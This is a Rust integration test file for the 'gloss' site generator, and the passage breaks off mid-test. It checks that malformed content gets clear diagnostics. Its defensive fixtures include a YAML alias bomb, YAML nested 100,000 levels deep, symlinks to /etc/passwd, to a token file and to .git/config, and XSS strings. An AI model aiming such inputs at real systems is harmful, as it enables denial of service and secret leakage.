//! Whatever a writer's editor, a colleague's script or a bad day puts under
//! `content/`, gloss answers with a diagnostic that names the place, never a
//! panic, and never harms what was already published.

mod common;

use std::path::Path;
use std::process::Output;
use std::time::Duration;

use common::*;

const CONFIG: &str = "title: Test guides\n";
const GUIDE: &str = "---\ntitle: Peels\n---\nAbout peels.\n";
const ENTRY: &str = "---\ntitle: Does a peel hurt?\n---\nIt stings a little.\n";

/// A site with one guide `g` and the given extra files, run through `check`.
fn check_with(files: &[(&str, &[u8])]) -> (TestSite, Output) {
    let site = site(&[("gloss.yaml", CONFIG), ("content/g/_index.md", GUIDE)]);
    for (path, bytes) in files {
        let path = site.path().join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, bytes).unwrap();
    }
    let run = gloss(site.path(), &["check"]);
    (site, run)
}

fn assert_no_panic(run: &Output) {
    let err = stderr(run);
    assert!(!err.contains("panicked") && !err.contains("RUST_BACKTRACE"), "{err}");
    assert!(run.status.code().is_some_and(|c| c == 0 || c == 1), "exit {:?}: {err}", run.status);
}

fn assert_reports(files: &[(&str, &[u8])], expected: &str) -> String {
    let (_site, run) = check_with(files);
    assert_no_panic(&run);
    let err = stderr(&run);
    assert!(err.contains(expected), "expected {expected:?} in:\n{err}");
    assert_eq!(run.status.code(), Some(1), "{err}");
    err
}

#[test]
fn empty_file() {
    assert_reports(&[("content/g/empty.md", b"")], "content/g/empty.md:1:1: error: this entry has no `title`");
}

#[test]
fn only_front_matter() {
    let site = site(&[
        ("gloss.yaml", CONFIG),
        ("content/g/_index.md", GUIDE),
        ("content/g/only.md", "---\ntitle: Only?\n---"),
    ]);
    let run = gloss(site.path(), &["build"]);
    assert!(run.status.success(), "{}", stderr(&run));
    assert!(read(site.path().join("public/g/only/index.html")).contains("Only?"));
}

#[test]
fn unterminated_front_matter() {
    let err = assert_reports(
        &[("content/g/open.md", b"---\ntitle: Open?\nbody text\n")],
        "content/g/open.md:1:1: error: the front matter starts here but never ends",
    );
    assert!(err.contains("add a line with only `---`"), "{err}");
}

#[test]
fn byte_order_mark_and_crlf_line_endings() {
    let site = site(&[
        ("gloss.yaml", CONFIG),
        ("content/g/_index.md", GUIDE),
        ("content/g/win.md", "\u{feff}---\r\ntitle: Saved on Windows?\r\n---\r\nHello from Notepad.\r\n"),
    ]);
    let run = gloss(site.path(), &["build"]);
    assert!(run.status.success(), "{}", stderr(&run));
    let html = read(site.path().join("public/g/win/index.html"));
    assert!(html.contains("<h1>Saved on Windows?</h1>"), "{html}");
    assert!(html.contains("Hello from Notepad."));
    assert!(!html.contains('\u{feff}'));
}

#[test]
fn tabs_in_yaml() {
    let err = assert_reports(
        &[("content/g/tabs.md", b"---\ntitle: Tabs?\ntopics:\n\t- pain\n---\n")],
        "content/g/tabs.md:4:1: error: this line is indented with a tab",
    );
    assert!(err.contains("indent with spaces"), "{err}");
}

#[test]
fn non_utf8_bytes() {
    assert_reports(
        &[("content/g/latin1.md", b"---\ntitle: Bytes?\n---\ncaf\xe9 au lait\n")],
        "content/g/latin1.md:4:4: error: this file is not UTF-8 text",
    );
}

#[test]
fn yaml_alias_bomb() {
    let mut yaml =
        String::from("---\na: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
    let mut previous = 'a';
    for name in "bcdefghi".chars() {
        let refs = vec![format!("*{previous}"); 9].join(",");
        yaml.push_str(&format!("{name}: &{name} [{refs}]\n"));
        previous = name;
    }
    yaml.push_str("title: Boom?\n---\n");
    let err = assert_reports(
        &[("content/g/bomb.md", yaml.as_bytes())],
        "content/g/bomb.md:2:1: error: invalid YAML: repetition limit exceeded",
    );
    assert!(err.contains("alias bomb"), "{err}");
}

#[test]
fn a_fifty_megabyte_entry_is_refused_and_the_published_site_kept() {
    let mut text = String::from("---\ntitle: Huge?\n---\n");
    let paragraph = "Some words in a paragraph, with *emphasis* and a [link](https://example.com).\n\n";
    while text.len() < 50 * 1024 * 1024 {
        text.push_str(paragraph);
    }
    let site = TestSite::fixture("minimal").built().file("content/peels/huge.md", &text);
    let before = site.output_files();
    site.run("build")
        .fails()
        .stderr_has("content/peels/huge.md:1:1: error: this file is 50.0 MiB, over the 2 MiB gloss reads")
        .stderr_has("split it into several entries")
        .stderr_has("raise `limits: text_file_mib:` in gloss.yaml");
    assert_eq!(site.output_files(), before, "the published site is left as it was");
}

#[test]
fn a_site_that_needs_longer_files_raises_the_limit_in_gloss_yaml() {
    let long = format!("---\ntitle: Long?\n---\n{}", "A sentence of the answer.\n".repeat(120_000));
    let site = TestSite::fixture("minimal").file("content/peels/long.md", &long);
    site.run("check").fails().stderr_has("content/peels/long.md:1:1: error: this file is 3.0 MiB, over the 2 MiB");
    let site = site.edit("gloss.yaml", |config| config + "limits:\n  text_file_mib: 4\n");
    site.run("build").succeeds();
    assert!(site.output("peels/long/index.html").contains("A sentence of the answer."));

    let site = site.edit("gloss.yaml", |config| config.replace("text_file_mib: 4", "text_file_mib: 1"));
    let small = format!("---\ntitle: Small?\n---\n{}", "A sentence.\n".repeat(100_000));
    let site = site.remove("content/peels/long.md").file("content/peels/small.md", &small);
    site.run("check").fails().stderr_has("content/peels/small.md:1:1: error: this file is 1.1 MiB, over the 1 MiB");
    let site = site.edit("gloss.yaml", |config| config.replace("text_file_mib: 1", "text_file_mib: 0"));
    site.run("check").fails().stderr_has("gloss.yaml:8:18: error: `text_file_mib` must be at least 1");
}

#[test]
fn a_glossary_over_the_size_limit_is_refused_too() {
    let term = "- term: collagen\n  definition: A protein that keeps your skin firm.\n";
    let site = TestSite::fixture("minimal").file("content/glossary.yaml", term.repeat(60_000));
    site.run("check").fails().stderr_has("content/glossary.yaml:1:1: error: this file is 3.9 MiB, over the 2 MiB");
}

/// Deep flow nesting (`[[[[…`) is what libyaml reads in time that grows
/// with the square of the depth; gloss refuses it where it passes the
/// limit, in every YAML file it reads. The error's place is where the 33rd
/// level opens: libyaml, reading it all first, would report elsewhere.
#[test]
fn yaml_nested_a_hundred_thousand_deep_is_refused_at_once_where_it_passes_the_limit() {
    let deep = |n: usize| format!("{}{}", "[".repeat(n), "]".repeat(n));
    let places = [
        ("content/peels/deep.md", format!("---\ntitle: Deep?\ntopics: {}\n---\nBody.\n", deep(100_000)), "3:40"),
        ("content/peels/_index.md", format!("---\ntitle: Peels\norder: {}\n---\n", deep(100_000)), "3:39"),
        ("content/_index.md", format!("---\ntitle: Home\ndescription: {}\n---\n", deep(100_000)), "3:45"),
        ("content/glossary.yaml", format!("- term: peel\n  definition: x\n  aliases: {}\n", deep(100_000)), "3:42"),
    ];
    for (path, text, at) in places {
        let site = TestSite::fixture("minimal").file(path, &text);
        let run = site
            .run("check")
            .fails()
            .stderr_has(&format!("{path}:{at}: error: the YAML nests more than 32 levels deep here"))
            .stderr_has("remove the extra brackets");
        assert!(run.stderr().len() < 2_000, "the 200 KB line is shown only around the place:\n{}", run.stderr());
    }
    let site = TestSite::fixture("minimal")
        .edit("gloss.yaml", |config| format!("{config}theme_options:\n  colours: {}\n", "{a: ".repeat(50_000)));
    site.run("check").fails().stderr_has("gloss.yaml:8:132: error: the YAML nests more than 32 levels deep here");
}

#[test]
fn deeply_nested_lists_and_quotes() {
    let mut text = String::from("---\ntitle: Nested?\n---\n");
    for depth in 0..2000 {
        text.push_str(&"  ".repeat(depth));
        text.push_str("- item\n");
    }
    text.push('\n');
    text.push_str(&">".repeat(20_000));
    text.push_str(" deep\n");
    // The list's indentation alone is 4 MB: over the default size limit,
    // which is not what this test is about.
    let config = format!("{CONFIG}limits:\n  text_file_mib: 8\n");
    let site = site(&[("gloss.yaml", &config), ("content/g/_index.md", GUIDE), ("content/g/nested.md", &text)]);
    let run = gloss(site.path(), &["build"]);
    assert_no_panic(&run);
    assert!(run.status.success(), "{}", stderr(&run));
    assert!(read(site.path().join("public/g/nested/index.html")).contains("deep"));
}

#[test]
fn two_files_whose_slugs_collide() {
    let err = assert_reports(
        &[
            ("content/g/one.md", b"---\ntitle: One?\nslug: same\n---\n"),
            ("content/g/two.md", b"---\ntitle: Two?\nslug: same\n---\n"),
        ],
        "content/g/two.md:3:7: error: the slug `same` is already used by content/g/one.md",
    );
    assert!(err.contains("rename one file or set a different `slug:`"), "{err}");
}

#[test]
fn file_names_that_slugify_alike() {
    assert_reports(
        &[
            ("content/g/Is It Safe.md", b"---\ntitle: Safe?\n---\n"),
            ("content/g/is-it-safe.md", b"---\ntitle: Safe too?\n---\n"),
        ],
        "error: the slug `is-it-safe` is already used by content/g/",
    );
}

#[test]
fn unicode_and_emoji_titles() {
    let site = site(&[
        ("gloss.yaml", CONFIG),
        ("content/g/_index.md", GUIDE),
        ("content/g/ça-pique.md", "---\ntitle: \"Est-ce que ça pique ? 😬\"\nsummary: Un peu 🙂\n---\nÀ peine.\n"),
    ]);
    let run = gloss(site.path(), &["build"]);
    assert!(run.status.success(), "{}", stderr(&run));
    let html = read(site.path().join("public/g/ca-pique/index.html"));
    assert!(html.contains("<h1>Est-ce que ça pique ? 😬</h1>"), "{html}");
}

#[test]
fn symlink_loop_under_content() {
    let site = site(&[("gloss.yaml", CONFIG), ("content/g/_index.md", GUIDE)]);
    std::os::unix::fs::symlink("..", site.path().join("content/g/loop")).unwrap();
    let run = gloss(site.path(), &["check"]);
    assert_no_panic(&run);
    assert!(stderr(&run).contains("content/g/loop:1:1: error: this link loops back to content"), "{}", stderr(&run));
}

#[test]
fn link_to_a_file_that_is_gone() {
    let site = site(&[("gloss.yaml", CONFIG), ("content/g/_index.md", GUIDE)]);
    std::os::unix::fs::symlink("/nonexistent/gone.md", site.path().join("content/g/gone.md")).unwrap();
    let err = stderr(&gloss(site.path(), &["check"]));
    assert!(
        err.contains("content/g/gone.md:1:1: error: this symbolic link points to something that does not exist"),
        "{err}"
    );
}

/// A file the user running gloss may not read. Root reads any file whatever
/// its mode, so when the tests run as root (as CI runs them) gloss runs as
/// `nobody`: the check can fail either way.
#[cfg(unix)]
#[test]
fn unreadable_file() {
    use std::os::unix::fs::PermissionsExt;
    let site = TestSite::fixture("minimal").file("content/peels/secret.md", "---\ntitle: Secret?\n---\n");
    let secret = site.path().join("content/peels/secret.md");
    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o000)).unwrap();
    let check = site.command(&["check"]);
    // SAFETY: geteuid has no preconditions and cannot fail.
    let check = if unsafe { libc::geteuid() } == 0 { check.user(65534, 65534) } else { check };
    check
        .run()
        .fails()
        .stderr_has("content/peels/secret.md:1:1: error: cannot read this file: Permission denied")
        .stderr_has("= help: check that the file exists and that you may read it")
        .stderr_has("1 error, 0 warnings");
}

/// A folder where gloss expects a guide's page: the guide is named, with
/// the file to write.
#[test]
fn a_folder_where_the_guide_page_should_be() {
    let site =
        TestSite::fixture("minimal").remove("content/peels/_index.md").file("content/peels/_index.md/notes.txt", "");
    insta::assert_snapshot!(site.run("check").fails().terminal());
}

/// A named pipe among the entries (a writer's tool left it, or someone ran
/// `mkfifo`): reading it would wait for a writer forever. gloss finishes,
/// and builds the rest of the guide.
#[cfg(unix)]
#[test]
fn a_named_pipe_among_the_entries_does_not_hang_gloss() {
    let site = TestSite::fixture("minimal");
    let pipe = std::ffi::CString::new(site.path().join("content/peels/pipe.md").into_os_string().into_encoded_bytes())
        .unwrap();
    // SAFETY: a valid NUL-terminated path; mkfifo only makes a file.
    assert_eq!(unsafe { libc::mkfifo(pipe.as_ptr(), 0o644) }, 0, "{}", std::io::Error::last_os_error());
    let timeout = Duration::from_secs(30);
    site.command(&["check"]).timeout(timeout).run().succeeds();
    site.command(&["build"]).timeout(timeout).run().succeeds().stdout_has("1 guide, 1 entry");
    assert!(site.has_output("peels/does-it-sting/index.html"));
}

#[test]
fn a_template_that_uses_an_undefined_variable() {
    let template =
        "{% extends \"base.html\" %}\n{% block content %}\n<p>{{ entry.colour }}</p>\n{% endblock content %}\n";
    let (_site, run) = check_with(&[
        ("content/g/a.md", b"---\ntitle: A?\n---\n"),
        ("content/g/b.md", b"---\ntitle: B?\n---\n"),
        ("templates/entry.html", template.as_bytes()),
    ]);
    let err = stderr(&run);
    assert!(
        err.contains("templates/entry.html:3:13: error: template error while rendering g/a/index.html: Field `colour` is not defined"),
        "{err}"
    );
    assert!(err.contains("(and 1 other page)"), "one broken template is reported once: {err}");
    assert!(err.contains("3 | <p>{{ entry.colour }}</p>"), "{err}");
}

/// A theme author types `entry.titel` and `gude`: each error suggests the
/// name the page has.
#[test]
fn a_mistyped_template_name_gets_the_closest_one() {
    let template =
        "{% extends \"base.html\" %}\n{% block content %}\n<h1>{{ entry.titel }}</h1>\n{% endblock content %}\n";
    let site = TestSite::fixture("minimal").file("templates/entry.html", template);
    site.run("check")
        .fails()
        .stderr_has("templates/entry.html:3:14: error: template error while rendering peels/does-it-sting/index.html: Field `titel` is not defined")
        .stderr_has("help: did you mean `title`?");
    let site = site.file("templates/entry.html", template.replace("entry.titel", "gude.title"));
    site.run("check").fails().stderr_has("Variable `gude` is not defined").stderr_has("help: did you mean `guide`?");
}

#[test]
fn a_template_with_a_syntax_error() {
    let template = "{% extends \"base.html\" %}\n{% block content %}\n<p>{{ entry.title </p>\n{% endblock content %}\n";
    let err = assert_reports(
        &[("templates/entry.html", template.as_bytes())],
        "templates/entry.html:3:19: error: template error: Found `</` but expected }}.",
    );
    assert!(err.contains("3 | <p>{{ entry.title </p>"), "{err}");
}

/// A site's `templates/entry.html` includes itself: a template error at the
/// include, not a crash.
#[test]
fn a_template_that_includes_itself() {
    let template = "{% extends \"theme/entry.html\" %}\n{% block content %}\n  {% include \"entry.html\" %}\n\
                    {% endblock content %}\n";
    let site = TestSite::fixture("minimal").file("templates/entry.html", template);
    site.run("check")
        .fails()
        .stderr_has(
            "templates/entry.html:3:3: error: template error: `entry.html` includes itself, so it would never end",
        )
        .stderr_has("3 |   {% include \"entry.html\" %}")
        .stderr_has("help: remove this `{% include %}` of `entry.html`");
    let site = site
        .file(
            "templates/entry.html",
            "{% extends \"theme/entry.html\" %}\n{% block content %}{% include \"a.html\" %}{% endblock content %}",
        )
        .file("templates/a.html", "<p>{% include \"b.html\" %}</p>")
        .file("templates/b.html", "<p>\n{%- include \"a.html\" %}</p>");
    site.run("build").fails().stderr_has(
        "templates/b.html:2:1: error: template error: these templates include each other in a loop: a.html → b.html → a.html",
    );
}

/// A component that calls itself with no condition: tera stops it, and the
/// error points at the call.
#[test]
fn a_component_that_calls_itself() {
    let components =
        "{% component forever(n) -%}\n<b>{{ n }}</b>\n{{ <forever n={n} /> }}\n{%- endcomponent forever %}\n";
    let entry =
        "{% extends \"theme/entry.html\" %}\n{% block content %}{{ <forever n={1} /> }}{% endblock content %}\n";
    let site =
        TestSite::fixture("minimal").file("templates/loops.html", components).file("templates/entry.html", entry);
    site.run("build")
        .fails()
        .stderr_has("templates/loops.html:3:1: error: template error while rendering peels/")
        .stderr_has("the component `forever` calls itself deeper than tera allows (20 calls)")
        .stderr_has("3 | {{ <forever n={n} /> }}");
}

/// A theme author nests one loop in another and the 404 page would be 80 MB
/// of `x`: the build stops at the page size limit, names the template and
/// the page, and leaves the published site as it was.
#[test]
fn a_template_loop_that_writes_a_huge_page() {
    let site = TestSite::fixture("minimal").built();
    let before = snapshot(&site.path().join("public"));
    let runaway = "{% for i in range(end=100000) %}{% for j in range(end=20) %}\
                   xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx{% endfor %}{% endfor %}\n";
    let site = site.file("templates/404.html", runaway);
    site.run("build").fails().stderr_has(
        "templates/404.html:1:1: error: template error while rendering 404.html: \
         the page passed 16 MiB, so gloss stopped rendering it",
    );
    site.run("check").fails().stderr_has("look for a `for` loop over a large `range`, or a loop inside another");
    assert!(snapshot(&site.path().join("public")) == before, "the failed build left public/ as it was");
}

#[test]
fn json_format_has_stable_fields() {
    let site = site(&[
        ("gloss.yaml", "title: T\nbase_url: https://c.example/\n"),
        ("content/g/_index.md", GUIDE),
        ("content/g/a.md", "---\ntitel: A?\n---\n"),
    ]);

    let run = gloss(site.path(), &["check", "--format", "json"]);
    assert_eq!(run.status.code(), Some(1));
    let diagnostics: serde_json::Value = serde_json::from_slice(&run.stdout).unwrap();
    assert_eq!(
        diagnostics,
        serde_json::json!([{
            "severity": "error",
            "path": "content/g/a.md",
            "line": 2,
            "column": 1,
            "message": "unknown key `titel`",
            "help": "did you mean `title`?",
            "source_line": "titel: A?",
        }])
    );
}

#[test]
fn warnings_fail_only_with_strict() {
    let site = site(&[
        ("gloss.yaml", CONFIG),
        ("content/g/_index.md", GUIDE),
        ("content/g/a.md", "---\ntitle: A?\n---\nNo one has reviewed this.\n"),
    ]);
    let run = gloss(site.path(), &["check"]);
    assert_eq!(run.status.code(), Some(0), "{}", stderr(&run));
    assert!(
        stderr(&run)
            .contains("content/g/_index.md:1:1: warning: neither this guide nor its entry has had a medical review"),
        "{}",
        stderr(&run)
    );
    assert_eq!(gloss(site.path(), &["check", "--strict"]).status.code(), Some(1));
}

#[test]
fn broken_anchor_names_the_headings_there_are() {
    let err = assert_reports(
        &[
            ("content/g/a.md", b"---\ntitle: A?\n---\n## Numbing cream\n"),
            ("content/g/b.md", b"---\ntitle: B?\n---\nSee [numbing](a.md#numbing).\n"),
        ],
        "content/g/b.md:4:5: error: `#numbing` is not a heading on g/a/index.html",
    );
    assert!(err.contains("did you mean `#numbing-cream`?"), "{err}");
}

#[test]
fn related_pointing_nowhere() {
    assert_reports(
        &[("content/g/a.md", b"---\ntitle: A?\nrelated:\n  - nowhere\n---\n")],
        "content/g/a.md:4:5: error: `related` names `nowhere`, but there is no such entry",
    );
}

#[test]
fn output_folders_gloss_refuses() {
    let site = site(&[("gloss.yaml", CONFIG), ("content/g/_index.md", GUIDE)]);
    for (output, why) in [
        (".", "it holds the site's own files"),
        ("content/public", "it is inside the site's sources"),
        ("/", "it holds the site's own files"),
    ] {
        let run = gloss(site.path(), &["build", "--output", output]);
        assert_eq!(run.status.code(), Some(1), "{output}");
        let err = stderr(&run);
        assert!(err.contains(&format!("refusing to write into {output}: {why}")), "{output}: {err}");
        assert!(err.contains("--output DIR") && err.contains("such as `public`"), "says what to pass: {err}");
        assert!(!err.contains("empty this folder yourself"), "{output} is not a folder to empty: {err}");
    }
    let err = stderr(&gloss(site.path(), &["build", "--output", "content/public"]));
    assert!(err.contains("the next build would read the output as part of the site"), "says why: {err}");
    assert!(err.contains("outside content/, themes/, templates/ and static/"), "{err}");
    assert!(site.path().join("gloss.yaml").is_file() && !site.path().join("content/public").exists());
}

/// `--output .` from an empty folder inside the site: gloss would swap the
/// folder the shell is in for a new one. It says so and what to run instead,
/// rather than failing with "Device or resource busy".
#[test]
fn the_folder_you_are_in_as_the_output_is_refused_with_what_to_run() {
    let site = site(&[("gloss.yaml", CONFIG), ("content/g/_index.md", GUIDE), ("content/g/peel.md", ENTRY)]);
    let here = site.path().join("out");
    std::fs::create_dir(&here).unwrap();
    let run = gloss(&here, &["build", "--output", "."]);
    let err = stderr(&run);
    assert_eq!(run.status.code(), Some(1), "{err}");
    assert!(err.contains("refusing to write into .: it is the folder you are in"), "{err}");
    assert!(err.contains("cd .. && gloss build --output NAME"), "{err}");
    assert!(!err.contains("os error"), "{err}");
    assert_eq!(std::fs::read_dir(&here).unwrap().count(), 0, "nothing was written");
    assert!(!site.path().read_dir().unwrap().any(|e| e.unwrap().file_name().to_string_lossy().contains("staging")));
}

/// GitHub Pages, by hand: the output folder is a checkout of the publishing
/// branch, with the custom domain's `CNAME`, `.nojekyll` and a
/// `.well-known/` file; a colleague also dropped a file into a guide's
/// folder. Build after build, gloss replaces its own pages and keeps the rest.
#[test]
fn a_hosts_git_checkout_and_files_in_the_output_survive_every_build() {
    let site = site(&[
        ("gloss.yaml", CONFIG),
        ("content/g/_index.md", GUIDE),
        ("content/g/a.md", "---\ntitle: First?\n---\nOne.\n"),
        ("content/g/b.md", "---\ntitle: Second?\n---\nTwo.\n"),
    ]);
    let out = site.path().join("public");
    // The checkout comes first: a folder holding only a host's files is one
    // gloss may build into.
    let host: [(&str, &str); 6] = [
        (".git/HEAD", "ref: refs/heads/gh-pages\n"),
        (".git/objects/ab/cdef0123", "blob"),
        ("CNAME", "guides.maple-derm.example\n"),
        (".nojekyll", ""),
        (".well-known/security.txt", "Contact: mailto:it@maple-derm.example\n"),
        ("g/from-the-front-desk.txt", "opening hours"),
    ];
    write_files(&out, &host[..5]);
    std::fs::create_dir_all(out.join(".git/refs/tags")).unwrap();
    let run = gloss(site.path(), &["build"]);
    assert!(run.status.success(), "{}", stderr(&run));
    write_files(&out, &host[5..]);
    write_files(site.path(), &[("content/g/a.md", "---\ntitle: First, changed?\n---\nOne.\n")]);
    std::fs::remove_file(site.path().join("content/g/b.md")).unwrap();
    for _ in 0..2 {
        let run = gloss(site.path(), &["build"]);
        assert!(run.status.success(), "{}", stderr(&run));
        for (path, text) in host {
            assert_eq!(read(out.join(path)), text, "{path} is kept");
        }
        assert!(out.join(".git/refs/tags").is_dir(), "an empty folder of git's is kept");
        assert!(read(out.join("g/a/index.html")).contains("First, changed?"));
        assert!(!out.join("g/b").exists(), "a page the site no longer has is gone");
    }
}

/// Someone put a page into the output where the site later gets one: gloss
/// neither overwrites it nor drops it, says which file, and publishes nothing.
#[test]
fn a_hosts_file_where_the_site_now_writes_is_refused_by_name() {
    let site = site(&[("gloss.yaml", CONFIG), ("content/g/_index.md", GUIDE), ("content/g/peel.md", ENTRY)]);
    let out = site.path().join("public");
    assert!(gloss(site.path(), &["build"]).status.success());
    write_files(&out, &[("faq/index.html", "<p>the front desk's FAQ</p>")]);
    let before = snapshot(&out);
    write_files(
        site.path(),
        &[("content/faq/_index.md", "---\ntitle: FAQ\n---\nQuestions.\n"), ("content/faq/peel.md", ENTRY)],
    );
    let run = gloss(site.path(), &["build"]);
    let err = stderr(&run);
    assert_eq!(run.status.code(), Some(1), "{err}");
    assert!(err.contains("its faq/index.html was not written by gloss, and the site now writes a file there"), "{err}");
    assert!(err.contains("move or delete that one"), "{err}");
    assert_eq!(snapshot(&out), before, "the previous output is untouched");
}

/// Folders beside the output named like gloss's leftovers are someone's:
/// a backup copy of the output (marker and all) and a folder of notes.
#[test]
fn folders_named_like_gloss_leftovers_that_gloss_did_not_leave_are_kept() {
    let site = site(&[("gloss.yaml", CONFIG), ("content/g/_index.md", GUIDE), ("content/g/peel.md", ENTRY)]);
    let out = site.path().join("public");
    assert!(gloss(site.path(), &["build"]).status.success());
    let backup = site.path().join(".public.old-mybackup");
    copy_dir(&out, &backup);
    let backed_up = snapshot(&backup);
    write_files(site.path(), &[(".public.staging-notes/todo.txt", "ask about peels")]);
    let run = gloss(site.path(), &["build"]);
    assert!(run.status.success(), "{}", stderr(&run));
    assert_eq!(snapshot(&backup), backed_up);
    assert_eq!(read(site.path().join(".public.staging-notes/todo.txt")), "ask about peels");
}

/// `kill -9` at any moment of a build: the output is the old one or the new
/// one, whole, and never a mix or missing.
#[test]
fn killed_builds_leave_the_previous_output_whole() {
    let mut files: Vec<(String, String)> =
        vec![("gloss.yaml".into(), CONFIG.into()), ("content/g/_index.md".into(), GUIDE.into())];
    for i in 0..1500 {
        files.push((
            format!("content/g/e{i:04}.md"),
            format!("---\ntitle: Question {i}?\n---\n{}\n", "Words. ".repeat(200)),
        ));
    }
    let borrowed: Vec<(&str, &str)> = files.iter().map(|(p, t)| (p.as_str(), t.as_str())).collect();
    let site = site(&borrowed);
    let out = site.path().join("public");
    assert!(gloss(site.path(), &["build"]).status.success());
    let old = snapshot(&out);
    write_files(site.path(), &[("content/g/e0000.md", "---\ntitle: Changed?\n---\nNew.\n")]);
    let mut outcomes = std::collections::BTreeSet::new();
    for delay_ms in [0u64, 20, 40, 60, 80, 100, 150, 200, 300] {
        let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_gloss"))
            .arg("build")
            .current_dir(site.path())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        std::thread::sleep(std::time::Duration::from_millis(delay_ms));
        let _ = child.kill(); // SIGKILL
        let _ = child.wait();
        let now = snapshot(&out);
        let is_old = now == old;
        let is_new =
            now.iter().any(|(p, b)| p == "g/e0000/index.html" && String::from_utf8_lossy(b).contains("Changed?"))
                && now.len() == old.len();
        assert!(is_old || is_new, "after a kill at {delay_ms} ms the output is neither the old nor the new site");
        outcomes.insert(if is_old { "old" } else { "new" });
        if is_new {
            // Back to the old site for the next round.
            assert!(gloss(site.path(), &["build"]).status.success());
        }
    }
    eprintln!("outcomes seen: {outcomes:?}");
    let run = gloss(site.path(), &["build"]);
    assert!(run.status.success(), "a build after kills succeeds: {}", stderr(&run));
    let leftovers: Vec<String> = std::fs::read_dir(site.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.contains("staging") || n.contains(".old-"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

fn snapshot(dir: &Path) -> Vec<(String, Vec<u8>)> {
    files_under(dir).into_iter().map(|f| (f.clone(), std::fs::read(dir.join(&f)).unwrap())).collect()
}

/// A file outside the site holding `secret`, for links to point at.
fn secret_outside(secret: &str) -> tempfile::TempDir {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("secret.txt"), secret).unwrap();
    outside
}

/// A pull request adds an "image" that is a symbolic link to a file of the
/// CI machine, a link to a whole folder of it and a stylesheet linked the
/// same way, and links to them from an entry. CI runs `gloss check` and
/// `gloss build`: each link is an error at its own path, and nothing of
/// what they point at reaches the output.
#[cfg(unix)]
#[test]
fn symbolic_links_out_of_the_site_are_refused_and_publish_nothing() {
    use std::os::unix::fs::symlink;
    let secret = "CI_DEPLOY_TOKEN=hunter2-7f3a";
    let outside = secret_outside(secret);
    let site = TestSite::fixture("minimal").file(
        "content/peels/leak.md",
        "---\ntitle: Leak?\n---\n![Env](env.txt) and [the folder](machine/secret.txt) and [passwd](passwd.txt).\n",
    );
    symlink(outside.path().join("secret.txt"), site.path().join("content/peels/env.txt")).unwrap();
    symlink(outside.path(), site.path().join("content/peels/machine")).unwrap();
    symlink("/etc/passwd", site.path().join("content/peels/passwd.txt")).unwrap();
    std::fs::create_dir_all(site.path().join("static")).unwrap();
    symlink(outside.path().join("secret.txt"), site.path().join("static/extra.css")).unwrap();
    for command in ["check", "build"] {
        site.run(command)
            .fails()
            .stderr_has("content/peels/env.txt:1:1: error: this symbolic link points outside the site, to ")
            .stderr_has("content/peels/machine:1:1: error: this symbolic link points outside the site, to ")
            .stderr_has(
                "content/peels/passwd.txt:1:1: error: this symbolic link points outside the site, to /etc/passwd",
            )
            .stderr_has("static/extra.css:1:1: error: this symbolic link points outside the site, to ")
            .stderr_has("= help: gloss publishes only files inside the site folder: copy the file into the site");
    }
    assert!(!site.has_output(""), "a failed build writes nothing");
}

/// A link to the CI checkout's `.git/config` (where the checkout keeps its
/// token) lies inside the site folder, but in a hidden folder: refused too.
#[cfg(unix)]
#[test]
fn a_symbolic_link_into_the_git_folder_is_refused() {
    let site = TestSite::fixture("minimal")
        .file(".git/config", "[http]\n\textraheader = AUTHORIZATION: basic c2VjcmV0\n")
        .file("content/peels/config.md", "---\ntitle: Config?\n---\n[config](config.txt)\n");
    std::os::unix::fs::symlink("../../.git/config", site.path().join("content/peels/config.txt")).unwrap();
    site.run("build")
        .fails()
        .stderr_has("content/peels/config.txt:1:1: error: this symbolic link points into `.git`, a hidden folder");
    assert!(!site.has_output(""));
}

/// Links that stay inside the site folder (a shared images folder, a
/// theme's stylesheet linked into `static/`) keep working.
#[cfg(unix)]
#[test]
fn symbolic_links_inside_the_site_keep_working() {
    use std::os::unix::fs::symlink;
    let site = TestSite::fixture("minimal")
        .file("shared/images/cream.png", "png")
        .file("shared/print.css", "@media print { body { color: black } }")
        .file("content/peels/cream.md", "---\ntitle: Cream?\n---\n![Cream on a cheek](images/cream.png)\n");
    symlink("../../shared/images", site.path().join("content/peels/images")).unwrap();
    std::fs::create_dir_all(site.path().join("static")).unwrap();
    symlink("../shared/print.css", site.path().join("static/print.css")).unwrap();
    site.run("build").succeeds();
    assert_eq!(site.output("peels/images/cream.png"), "png");
    assert!(site.output_files().contains("print.[fingerprint].css"), "{}", site.output_files());
}

/// A writer keeps private notes, a draft `.html` page and a drawing beside
/// the entries, and a consent form the practice sends by email. Only what
/// a page links to, and the kinds of file gloss.yaml lets through unlinked
/// (PDFs and images by default), are published.
#[test]
fn files_no_page_links_to_are_not_published() {
    let site = TestSite::fixture("minimal")
        .file("content/peels/notes.txt", "Mrs Smith: call back about her results")
        .file("content/peels/draft-page.html", "<script>alert(1)</script>")
        .file("content/peels/drawing.svg", "<svg onload=\"alert(1)\"/>")
        .file("content/peels/consent-form.pdf", "%PDF-1.4")
        .file("content/peels/aftercare.txt", "Keep it clean.")
        .file("content/peels/images/peel.png", "png")
        .file("content/peels/after.md", "---\ntitle: After?\n---\nRead [the sheet](aftercare.txt).\n");
    site.run("build").succeeds();
    for published in ["peels/aftercare.txt", "peels/consent-form.pdf", "peels/images/peel.png"] {
        assert!(site.has_output(published), "{published} is published:\n{}", site.output_files());
    }
    for private in ["peels/notes.txt", "peels/draft-page.html", "peels/drawing.svg"] {
        assert!(!site.has_output(private), "{private} is published:\n{}", site.output_files());
    }
}

/// `files.publish_unlinked` in gloss.yaml lists the extensions published
/// with no link; an empty list publishes only what pages link to.
#[test]
fn gloss_yaml_says_which_unlinked_files_are_published() {
    let site = TestSite::fixture("minimal")
        .edit("gloss.yaml", |text| format!("{text}files:\n  publish_unlinked: [txt]\n"))
        .file("content/peels/handout.txt", "Keep it clean.")
